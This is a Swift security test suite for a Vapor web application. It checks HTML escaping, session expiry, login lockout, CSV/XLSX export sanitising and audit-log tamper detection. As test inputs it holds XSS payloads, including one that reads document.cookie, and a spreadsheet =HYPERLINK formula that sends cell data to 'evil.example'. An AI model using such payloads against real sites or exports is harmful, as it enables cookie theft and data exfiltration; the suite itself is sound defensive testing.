import Foundation
import Testing
import Vapor
import VaporTesting
import Fluent
import SQLKit
@testable import WebApp
import Core
import Persistence
import Audit
import Organizations
import Roster
import Accounts
import Demo
import Documents

/// Signs in through the API; returns the cookie header and the CSRF token.
func apiSignIn(_ app: Application, _ username: String, _ password: String, from address: String? = nil,
               over tester: (any TestingApplicationTester)? = nil) async throws -> (headers: HTTPHeaders, status: HTTPStatus) {
    var headers = HTTPHeaders(), status = HTTPStatus.ok
    var request = HTTPHeaders()
    if let address { request.replaceOrAdd(name: "X-Forwarded-For", value: address) }
    try await (tester ?? app.testing()).test(.POST, "/api/v1/session", headers: request, beforeRequest: { req in
        try req.content.encode(["username": username, "password": password], as: .json)
    }) { res in
        status = res.status
        guard res.status == .ok else { return }
        headers.cookie = ["xuanju_session": .init(string: res.headers.setCookie?["xuanju_session"]?.string ?? "")]
        headers.replaceOrAdd(name: "X-CSRF-Token", value: try res.content.decode(APISession.self).csrfToken)
    }
    return (headers, status)
}

func sessionRows(_ app: Application) async throws -> Int { try await SessionStore.count(in: app.db.data) }

@Suite(.serialized) struct SecurityTests {
    static let payloads = ["测试');alert(document.cookie);//", "\"><img src=x onerror=alert(1)>"]

    /// Names that try to break out of an attribute or a script: no page carries data inside an
    /// inline handler or script, and the names appear only escaped.
    @Test func hostileNamesNeverReachAScript() async throws {
        try await withXuanjuApp { app in
            let generator = DemoGenerator(memberCount: 50)
            _ = try await DemoLoader.load(generator, into: app.db.data)
            let wuling = try #require(generator.unitIDs["wuling"])
            let admin = try await apiSignIn(app, "admin", "管理员密码123").headers
            var created: [String] = []
            for (i, payload) in Self.payloads.enumerated() {
                try await app.testing().test(.POST, "/api/v1/organizations", headers: admin, beforeRequest: { req in
                    try req.content.encode(["name": payload, "kind": "支部", "parentId": wuling.uuidString], as: .json)
                }) { res in
                    #expect(res.status == .created, "\(res.body.string)")
                    created.append(try res.content.decode(APIOrganization.self).id.description)
                }
                try await app.testing().test(.POST, "/api/v1/users", headers: admin, beforeRequest: { req in
                    try req.content.encode(["username": "xss\(i)", "displayName": payload, "role": "只读", "organizationId": wuling.uuidString], as: .json)
                }) { res in #expect(res.status == .created, "\(res.body.string)") }
            }
            var session = try await TestSession.open(app)
            #expect(try await session.logIn(app, "admin", "管理员密码123") == .seeOther)
            let pages = ["/", "/organizations", "/users", "/audit", "/members", "/members/import", "/account/password",
                         "/organizations/\(wuling.uuidString)"] + created.map { "/organizations/\($0)" }
            for page in pages {
                try await app.testing().test(.GET, page, headers: session.headers) { res in
                    let html = res.body.string
                    #expect(res.status == .ok, "\(page)")
                    #expect(res.headers.first(name: "Content-Security-Policy") == SecurityHeaders.contentSecurityPolicy, "\(page)")
                    #expect(!SecurityTests.payloads.contains { html.contains($0) }, "\(page) shows a payload unescaped")
                    #expect(inlineHandler(in: html) == nil, "\(page) has an inline event handler")
                    #expect(html.range(of: #"<script(?![^>]*\bsrc=)"#, options: .regularExpression) == nil, "\(page) has an inline script")
                    #expect(html.range(of: #"style=""#, options: .regularExpression) == nil, "\(page) has an inline style")
                }
            }
            // The organization page asks before closing through a data attribute the template escaped.
            try await app.testing().test(.GET, "/organizations/\(created[0])", headers: session.headers) { res in
                #expect(res.body.string.contains("data-confirm=\"确定撤销「测试&#39;);alert(document.cookie);//」？"))
            }
            try await app.testing().test(.GET, "/static/app.js") { res in
                #expect(res.status == .ok && res.headers.contentType?.subType == "javascript" && res.body.string.contains("data-confirm"))
            }
        }
    }

    @Test func theAPISignInTakesJSONOnly() async throws {
        try await withXuanjuApp { app in
            try await app.testing().test(.POST, "/api/v1/session", beforeRequest: { req in
                try req.content.encode(["username": "admin", "password": "管理员密码123"], as: .urlEncodedForm)
            }) { res in
                #expect(res.status == .unsupportedMediaType && res.headers.setCookie?["xuanju_session"] == nil)
            }
            #expect(try await sessionRows(app) == 0)
        }
    }

    @Test func anonymousVisitsMakeNoSessionRows() async throws {
        try await withXuanjuApp { app in
            for i in 0..<100 {
                try await app.testing().test(.GET, i % 2 == 0 ? "/login" : "/members") { res in
                    #expect(res.status == (i % 2 == 0 ? .ok : .seeOther))
                    #expect(res.headers.setCookie?["xuanju_session"] == nil)
                }
            }
            #expect(try await sessionRows(app) == 0)
            _ = try await apiSignIn(app, "admin", "管理员密码123")
            #expect(try await sessionRows(app) == 1)
        }
    }

    @Test func aPasswordChangeEndsTheOtherSessions() async throws {
        try await withXuanjuApp { app in
            let first = try await apiSignIn(app, "admin", "管理员密码123").headers
            let second = try await apiSignIn(app, "admin", "管理员密码123").headers
            #expect(try await sessionRows(app) == 2)
            try await app.testing().test(.PUT, "/api/v1/account/password", headers: first, beforeRequest: { req in
                try req.content.encode(["current": "管理员密码123", "new": "另一个管理员密码456"], as: .json)
            }) { res in #expect(res.status == .noContent || res.status == .ok, "\(res.body.string)") }
            try await app.testing().test(.GET, "/api/v1/session", headers: first) { res in #expect(res.status == .ok) }
            try await app.testing().test(.GET, "/api/v1/session", headers: second) { res in #expect(res.status == .unauthorized) }
            #expect(try await sessionRows(app) == 1)
        }
    }

    @Test func sessionsExpireWhenIdleAndArePurged() async throws {
        try await withXuanjuApp { app in
            let policy = SessionStore.Policy(idle: 60, lifetime: 3600)
            let now = Date()
            try await SessionStore.create(cookie: "a", data: ["k": "v"], accountID: nil, now: now, policy: policy, in: app.db.data)
            #expect(try await SessionStore.read(cookie: "a", now: now.addingTimeInterval(59), policy: policy, in: app.db.data)?.data == ["k": "v"])
            #expect(try await SessionStore.read(cookie: "a", now: now.addingTimeInterval(61), policy: policy, in: app.db.data) == nil)
            #expect(try await sessionRows(app) == 0, "an expired session is deleted when found")
            try await SessionStore.create(cookie: "b", data: [:], accountID: nil, now: now, policy: policy, in: app.db.data)
            try await SessionStore.create(cookie: "c", data: [:], accountID: nil, now: now.addingTimeInterval(120), policy: policy, in: app.db.data)
            #expect(try await sessionRows(app) == 1, "starting a session purges the expired ones")
            // The cookie's value is not what the table holds.
            let sql = try #require(app.db as? any SQLDatabase)
            #expect(try await sql.raw("SELECT key FROM sessions").first()?.decode(column: "key", as: String.self) == SessionStore.key("c"))
        }
    }

    /// Five refusals lock `admin` for the address they came from only; the audit log gets one
    /// row for the lockout, none per guess; an unknown name is refused like a wrong password.
    @Test func aStrangerLocksOutOnlyThemselves() async throws {
        let app = try await Application.make(.testing)
        let path = NSTemporaryDirectory() + "xuanju-lock-\(UUID().uuidString).sqlite"
        var security = SecuritySettings(environment: [:])
        security.trustedProxies = ["127.0.0.1"]
        do {
            try await WebApp.configure(app, settings: WebAppSettings(target: .sqlite(path: path), adminPassword: "管理员密码123", security: security))
            let auditBefore = try await AuditLog.head(in: app.db.data).seq
            // Over real HTTP from 127.0.0.1, the configured proxy: the address is X-Forwarded-For's.
            let http = try app.testing(method: .running(hostname: "127.0.0.1", port: Int.random(in: 20_000...40_000)))
            for _ in 0..<7 { #expect(try await apiSignIn(app, "admin", "guess", from: "203.0.113.9", over: http).status != .ok) }
            #expect(try await apiSignIn(app, "admin", "管理员密码123", from: "203.0.113.9", over: http).status == .tooManyRequests)
            // The owner, elsewhere, signs in.
            #expect(try await apiSignIn(app, "admin", "管理员密码123", from: "198.51.100.7", over: http).status == .ok)
            let rows = try await AuditEntry.query(on: app.db).filter(\.$id > auditBefore).sort(\.$id).all()
            #expect(rows.map(\.action) == [AuditAction.loginLockedOut.rawValue, AuditAction.loginSucceeded.rawValue])
            #expect(rows.first?.after.contains("203.0.113.9") == true)
            // Unknown names are refused with the same answer.
            #expect(try await apiSignIn(app, "nobody", "guess", from: "198.51.100.8", over: http).status == .unauthorized)
        } catch {
            try await app.asyncShutdown()
            throw error
        }
        try await app.asyncShutdown()
    }

    @Test func exportsHoldNoLiveFormula() async throws {
        try await withXuanjuApp { app in
            let generator = DemoGenerator(memberCount: 20)
            _ = try await DemoLoader.load(generator, into: app.db.data)
            let admin = try await apiSignIn(app, "admin", "管理员密码123").headers
            var member: APIMember?
            try await app.testing().test(.GET, "/api/v1/members?pageSize=1", headers: admin) { res in
                member = try res.content.decode(APIMemberPage.self).members.first
            }
            var record = try #require(member).record
            let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"
            record.position = formula
            record.title = "@SUM(1+1)"
            try await app.testing().test(.PUT, "/api/v1/members/\(member!.id.description)", headers: admin, beforeRequest: { req in
                try req.content.encode(record, as: .json)
            }) { res in #expect(res.status == .ok, "\(res.body.string)") }
            try await app.testing().test(.GET, "/api/v1/members/export?format=csv", headers: admin) { res in
                let csv = res.body.string
                #expect(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\"") && csv.contains(",'@SUM(1+1),"))
                #expect(!csv.contains(",=") && !csv.contains(",\"=") && !csv.contains(",@"))
                #expect(res.headers.first(name: "X-Xuanju-Audit-Head")?.contains(":") == true)
                // The file reads back with the apostrophes gone.
                let parsed = try RosterFile.read(Data(csv.utf8), file: "x.csv")
                #expect(parsed.records.contains { $0.record.position == formula && $0.record.title == "@SUM(1+1)" })
            }
            try await app.testing().test(.GET, "/api/v1/members/export", headers: admin) { res in
                let workbook = try XLSXWorkbook(data: Data(buffer: res.body), file: "x.xlsx")
                let sheet = try workbook.sheet(at: 0)
                #expect(sheet.rows.contains { $0.cells.contains(.text(formula)) })
                #expect(sheet.rows.allSatisfy { !$0.cells.contains { if case .formula = $0 { true } else { false } } })
            }
        }
    }

    /// The chain head printed on an export: cutting the newest rows off, or rewriting the whole
    /// table consistently, no longer matches it.
    @Test func theAuditHeadCatchesTruncationAndRewrites() async throws {
        try await withXuanjuApp { app in
            for i in 0..<5 { try await AuditLog.append(.memberUpdated, actor: "t", object: "m\(i)", in: app.db.data) }
            let head = try await AuditLog.head(in: app.db.data)
            #expect(try await AuditLog.verify(expecting: head, in: app.db.data).firstBroken == nil)
            let sql = try #require(app.db as? any SQLDatabase)
            // Truncation: the newest entry is gone; what remains is a perfectly good chain.
            try await sql.raw("DELETE FROM audit_log WHERE seq = \(unsafeRaw: String(head.seq))").run()
            #expect(try await AuditLog.verify(in: app.db.data).firstBroken == nil)
            #expect(try await AuditLog.verify(expecting: head, in: app.db.data).firstBroken?.seq == head.seq)
            // A rewrite: the entry is back with other content and a recomputed chain.
            try await AuditLog.append(.memberUpdated, actor: "forger", object: "m4", in: app.db.data)
            let forged = try await AuditLog.head(in: app.db.data)
            #expect(forged.seq == head.seq && forged.hash != head.hash)
            #expect(try await AuditLog.verify(expecting: head, in: app.db.data).firstBroken?.reason.contains("整体改写") == true)
            // The page checks from its checkpoint onward: a change behind the checkpoint's own entry shows.
            #expect(try await AuditLog.verifyIncrementally(in: app.db.data).firstBroken == nil)
            try await AuditLog.append(.memberUpdated, actor: "t", object: "m5", in: app.db.data)
            try await sql.raw("UPDATE audit_log SET actor = 'x' WHERE seq = \(unsafeRaw: String(forged.seq))").run()
            #expect(try await AuditLog.verifyIncrementally(in: app.db.data).firstBroken?.seq == forged.seq)
        }
    }
}

/// The first `on…=` attribute in a page's tags (attribute values, escaped text, are skipped).
func inlineHandler(in html: String) -> String? {
    let withoutValues = html.replacingOccurrences(of: #""[^"]*""#, with: "\"\"", options: .regularExpression)
    guard let found = withoutValues.range(of: #"<[a-zA-Z][^>]*\son[a-z]+\s*="#, options: .regularExpression) else { return nil }
    return String(withoutValues[found])
}
